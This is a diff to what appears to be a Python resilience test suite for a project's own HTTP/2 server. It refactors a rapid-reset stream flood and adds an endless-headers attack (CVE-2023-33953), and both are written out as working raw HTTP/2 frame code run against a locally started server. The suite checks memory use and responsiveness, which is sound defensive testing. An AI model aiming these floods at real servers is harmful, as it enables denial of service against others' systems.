@@ -20,7 +20,7 @@ import sys
 import tempfile
 import threading
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterable
 from pathlib import Path
 
 import numpy as np
@@ -151,6 +151,13 @@ class Attacks:
 
     def floods(self) -> None:
         """Streams that are opened and reset at once (HTTP/2 rapid reset), beside another client."""
+        self._floods("3 floods of 120,000 streams", lambda port: _flood(port, 120_000), 300)
+
+    def headers(self) -> None:
+        """A request whose headers never end (CVE-2023-33953), beside another client."""
+        self._floods("3 requests with 2 GB of headers", lambda port: _headers(port, 2 << 30), 800)
+
+    def _floods(self, name: str, attack: Callable[[int], None], max_mb: int) -> None:
         store = self.store("floods")
         server = subprocess.Popen([self.program, "serve", store, "--listen", "127.0.0.1:0"],
                                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
@@ -160,7 +167,7 @@ class Attacks:
             highest = before
             slowest = 0.0
             for _ in range(3):
-                flood = threading.Thread(target=_flood, args=(port, 120_000))
+                flood = threading.Thread(target=attack, args=(port,))
                 flood.start()
                 while flood.is_alive():
                     highest = max(highest, _resident_mb(server.pid))
@@ -169,12 +176,13 @@ class Attacks:
                     slowest = max(slowest, time.monotonic() - begin)
                     if done.returncode != 0:
                         slowest = float("inf")
-            time.sleep(3)
-            after = _resident_mb(server.pid)
-            self.told("3 floods of 120,000 streams", "at most 300 MB more, and given back",
+            until = time.monotonic() + 15
+            while (after := _resident_mb(server.pid)) > before + 150 and time.monotonic() < until:
+                time.sleep(0.2)
+            self.told(name, f"at most {max_mb} MB more, and given back",
                       f"{before} MB before, {highest} at most, {after} after",
-                      highest <= before + 300 and after <= before + 150)
-            self.told("3 floods, another client", "is answered within 5 s", f"{slowest:.1f} s",
+                      highest <= before + max_mb and after <= before + 150)
+            self.told(f"{name}, another client", "is answered within 5 s", f"{slowest:.1f} s",
                       slowest <= 5)
         finally:
             server.send_signal(signal.SIGTERM)
@@ -299,15 +307,31 @@ def _resident_mb(process: int) -> int:
     return int(re.search(r"VmRSS:\s+(\d+)", text)[1]) // 1024
 
 
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """A frame of HTTP/2."""
+    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
+            + payload)
+
+
 def _flood(port: int, streams: int) -> None:
     """Opens so many HTTP/2 streams and resets each at once, until the server hangs up."""
-
-    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-        return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
-                + payload)
-
     # POST, http, path, authority, content type, te.
     call = (b"\x83\x86\x44\x06/a/b/c\x41\x01a\x5f\x10application/grpc\x40\x02te\x08trailers")
+    _say(port, (b"".join(
+        _frame(1, 4, 2 * i + 1, call) + _frame(3, 0, 2 * i + 1, b"\0\0\0\x08")
+        for i in range(first, first + 500)) for first in range(0, streams, 500)))
+
+
+def _headers(port: int, size: int) -> None:
+    """Sends so many bytes of headers of one request, until the server hangs up."""
+    fields = (b"\x00\x08abcdefgh\x64" + b"v" * 100) * 140
+    frames = [_frame(9, 0, 1, fields)] * 16
+    _say(port, (b"".join([_frame(1, 0, 1, fields), *frames] if first == 0 else frames)
+                for first in range(0, size, 16 * len(fields))))
+
+
+def _say(port: int, messages: Iterable[bytes]) -> None:
+    """Says all of it to a server of HTTP/2, until it hangs up."""
     with socket.create_connection(("127.0.0.1", port)) as connection:
         def drain() -> None:
             try:
@@ -319,11 +343,9 @@ def _flood(port: int, streams: int) -> None:
         reader = threading.Thread(target=drain, daemon=True)
         reader.start()
         try:
-            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
-            for first in range(0, streams, 500):
-                connection.sendall(b"".join(
-                    frame(1, 4, 2 * i + 1, call) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08")
-                    for i in range(first, first + 500)))
+            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
+            for message in messages:
+                connection.sendall(message)
             reader.join(timeout=30)
         except OSError:
             pass
